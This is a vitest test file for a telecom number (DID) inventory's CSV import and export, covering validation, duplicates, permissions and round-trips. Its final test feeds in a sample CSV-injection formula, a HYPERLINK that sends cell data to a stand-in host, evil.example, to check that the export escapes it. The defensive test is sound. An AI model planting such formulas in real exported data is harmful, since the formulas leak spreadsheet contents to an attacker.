import { PassThrough, Readable } from 'node:stream';
import { describe, expect, it } from 'vitest';
import { parse } from 'csv-parse/sync';
import type { Ctx } from '../../../core/context.ts';
import type { Did } from '../../../core/db/schema.ts';
import { exportDidsCsv } from '../../../core/inventory/export-csv.ts';
import { importDidsCsv, type ImportProgress } from '../../../core/inventory/import-csv.ts';
import type { DidFilter } from '../../../core/inventory/search-dids.ts';
import { DomainError } from '../../../core/shared/errors.ts';
import { useTestDatabase } from '../../helpers/database.ts';
import { actorOf, buildAccount, buildOperator, buildProvider, ctxFor } from '../../helpers/factories.ts';

const t = useTestDatabase();

async function setup() {
  const operator = await buildOperator(t.db);
  const staff = ctxFor(t.db, actorOf(operator, 'operator'));
  const provider = await buildProvider(t.db, { name: 'NorthStar' });
  await t.db.insertInto('did_groups').values({ name: 'US Local' }).execute();
  await t.db
    .insertInto('pricing_batches')
    .values({ owner_account_id: operator.id, name: 'Standard', setup_fee: 100, recurring_fee: 150 })
    .execute();
  return { operator, staff, provider };
}

const count = async () =>
  Number(
    (
      await t.db
        .selectFrom('dids')
        .select((eb) => eb.fn.countAll<string>().as('n'))
        .executeTakeFirstOrThrow()
    ).n,
  );

async function exportCsv(ctx: Ctx, filter: DidFilter): Promise<{ written: number; csv: string }> {
  const out = new PassThrough();
  const chunks: Buffer[] = [];
  out.on('data', (c: Buffer) => chunks.push(c));
  const written = await exportDidsCsv(ctx, filter, out);
  return { written, csv: Buffer.concat(chunks).toString('utf8') };
}

const comparable = (rows: readonly Did[]) =>
  rows.map(({ id: _id, created_at: _c, updated_at: _u, ...rest }) => rest);

const MIXED = [
  'DID,City,State,Carrier,Group,Pricing Batch,Setup Fee,Monthly,Cost per minute,Capabilities,Notes',
  '+1 212 555 0142,New York,NY,NorthStar,US Local,Standard,,,0.0045,voice;sms,first',
  '12125550143,New York,NY,NorthStar,US Local,Standard,2.00,3.00,,,',
  'not-a-number,New York,NY,NorthStar,,,,,,,',
  '+1 212 555 0144,New York,NY,Nobody Telecom,,,,,,,',
  '+1 212 555 0145,New York,NY,NorthStar,,,-1,,,,',
  '+1 (212) 555-0142,New York,NY,NorthStar,,,,,,,dup',
  '+44 20 7946 0000,London,,NorthStar,,,1.00,2.00,,,',
].join('\n');

describe('CSV import', () => {
  it('imports the good rows and reports each bad row with its line and reason', async () => {
    const { staff } = await setup();
    const report = await importDidsCsv(staff, MIXED);
    expect(report).toMatchObject({ rows: 7, imported: 3, existing: 0, errors: 4, ignoredColumns: [] });
    expect(report.rowErrors.map((e) => [e.line, e.field])).toEqual([
      [4, 'number'],
      [5, 'provider'],
      [6, 'setup_fee'],
      [7, 'number'],
    ]);
    expect(report.rowErrors[1]!.message).toContain('unknown provider "Nobody Telecom"');
    expect(report.rowErrors[2]!.message).toContain('cannot be negative');
    expect(report.rowErrors[3]!.message).toContain('repeats +12125550142 from line 2');

    const rows = await t.db.selectFrom('dids').selectAll().orderBy('number').execute();
    expect(rows.map((r) => r.number)).toEqual(['+12125550142', '+12125550143', '+442079460000']);
    expect(rows[0]).toMatchObject({
      city: 'New York',
      province: 'NY',
      setup_fee: 100,
      recurring_fee: 150,
      per_minute_rate_micros: 4500,
      capabilities: ['voice', 'sms'],
      description: 'first',
    });
    expect(rows[1]).toMatchObject({ setup_fee: 200, recurring_fee: 300 });
    expect(rows[2]).toMatchObject({ country: 'GB', area_code: '20', setup_fee: 100 });
    const audit = await t.db.selectFrom('audit_events').select('action').execute();
    expect(audit).toHaveLength(3);
    expect(audit.every((a) => a.action === 'did.import')).toBe(true);
  });

  it('importing the same file again changes nothing', async () => {
    const { staff } = await setup();
    await importDidsCsv(staff, MIXED);
    const before = await t.db.selectFrom('dids').selectAll().orderBy('number').execute();
    const again = await importDidsCsv(staff, MIXED);
    expect(again).toMatchObject({ imported: 0, existing: 3, errors: 4 });
    expect(await t.db.selectFrom('dids').selectAll().orderBy('number').execute()).toEqual(before);
    expect(await t.db.selectFrom('audit_events').selectAll().execute()).toHaveLength(3);
  });

  it('refuses a file without a number column, an empty file, and malformed CSV, importing nothing', async () => {
    const { staff } = await setup();
    const noNumber = await importDidsCsv(staff, 'city,setup_fee\nNew York,1.00\n').catch((e: unknown) => e);
    expect(noNumber).toBeInstanceOf(DomainError);
    expect((noNumber as DomainError).message).toBe('The CSV has no number column.');
    expect(((await importDidsCsv(staff, '').catch((e: unknown) => e)) as DomainError).message).toBe(
      'The CSV is empty.',
    );
    const broken = await importDidsCsv(staff, 'number,city\n"+12125550142,New York\n').catch(
      (e: unknown) => e,
    );
    expect((broken as DomainError).message).toMatch(/not valid CSV/);
    expect(await count()).toBe(0);
  });

  it('skips rows of commas only, as a spreadsheet saves its empty rows, without counting them', async () => {
    const { staff } = await setup();
    const csv = 'number,city,notes\n,,\n+12125550142,New York,\n , ,\n,,\nnope,,\n';
    const report = await importDidsCsv(staff, csv);
    expect(report).toMatchObject({ rows: 2, imported: 1, errors: 1 });
    expect(report.rowErrors.map((e) => e.line)).toEqual([6]);
    expect(await count()).toBe(1);
  });

  it('names header cells it does not know, and reports progress per chunk from a stream', async () => {
    const { staff } = await setup();
    const lines = ['number,colour'];
    for (let i = 0; i < 25; i++) lines.push(`+1212555${String(1000 + i)},blue`);
    const seen: ImportProgress[] = [];
    const report = await importDidsCsv(staff, Readable.from([lines.join('\n')]), {
      chunkSize: 10,
      onProgress: (p) => seen.push(p),
    });
    expect(report.ignoredColumns).toEqual(['colour']);
    expect(report.imported).toBe(25);
    expect(seen.map((p) => p.imported)).toEqual([10, 20, 25, 25]);
  });

  it('is refused to resellers and viewers', async () => {
    const { operator } = await setup();
    const reseller = await buildAccount(t.db, operator, { kind: 'reseller' });
    await expect(importDidsCsv(ctxFor(t.db, actorOf(reseller, 'owner')), MIXED)).rejects.toThrow(
      /Only the operator/,
    );
    await expect(importDidsCsv(ctxFor(t.db, actorOf(operator, 'viewer')), MIXED)).rejects.toMatchObject({
      code: 'forbidden',
    });
    expect(await count()).toBe(0);
  });
});

describe('CSV export', () => {
  it('exports a search with the import columns, and the export imports back to the same inventory', async () => {
    const { staff } = await setup();
    await importDidsCsv(staff, MIXED);
    const { written, csv } = await exportCsv(staff, { country: 'US' });
    expect(written).toBe(2);
    const [header, first] = csv.trim().split('\n');
    expect(header).toMatch(
      /^number,country,area_code,number_type,city,province,provider,vendor_batch,group,pricing_batch,/,
    );
    expect(first).toContain(
      '+12125550142,US,212,local,New York,NY,NorthStar,,US Local,Standard,0.00,0.00,1.00,1.50,USD',
    );

    const original = await t.db
      .selectFrom('dids')
      .selectAll()
      .where('country', '=', 'US')
      .orderBy('number')
      .execute();
    await t.db.deleteFrom('dids').execute();
    const report = await importDidsCsv(staff, csv);
    expect(report).toMatchObject({ imported: 2, errors: 0, ignoredColumns: [] });
    const restored = await t.db.selectFrom('dids').selectAll().orderBy('number').execute();
    expect(comparable(restored)).toEqual(comparable(original));
  });

  it('writes text a spreadsheet would run as a formula as text, and imports it back unchanged', async () => {
    const { staff } = await setup();
    const formula = '=HYPERLINK("http://evil.example/?"&A1,"Click")';
    const csv = [
      'number,city,province,description',
      `+12125550100,@SUM(A1),+NY,"${formula.replace(/"/g, '""')}"`,
      `+12125550101,-Queens,NY,'=already quoted`,
    ].join('\n');
    expect(await importDidsCsv(staff, csv)).toMatchObject({ imported: 2, errors: 0 });
    const original = await t.db.selectFrom('dids').selectAll().orderBy('number').execute();
    expect(original.map((d) => [d.city, d.province, d.description])).toEqual([
      ['@SUM(A1)', '+NY', formula],
      ['-Queens', 'NY', '=already quoted'],
    ]);

    const exported = (await exportCsv(staff, {})).csv;
    // No cell of any row starts with a character that makes a spreadsheet evaluate it.
    const cells = parse(exported, {}).flat();
    expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c) && !/^[+-]?\d+(\.\d+)?$/.test(c))).toEqual([]);
    expect(cells).toContain(`'${formula}`);
    expect(cells).toContain("'@SUM(A1)");
    expect(cells).toContain("'-Queens");
    // The number column keeps its plus: a plain number is not a formula.
    expect(cells).toContain('+12125550100');

    await t.db.deleteFrom('dids').execute();
    expect(await importDidsCsv(staff, exported)).toMatchObject({ imported: 2, errors: 0 });
    const restored = await t.db.selectFrom('dids').selectAll().orderBy('number').execute();
    expect(comparable(restored)).toEqual(comparable(original));
  });
});
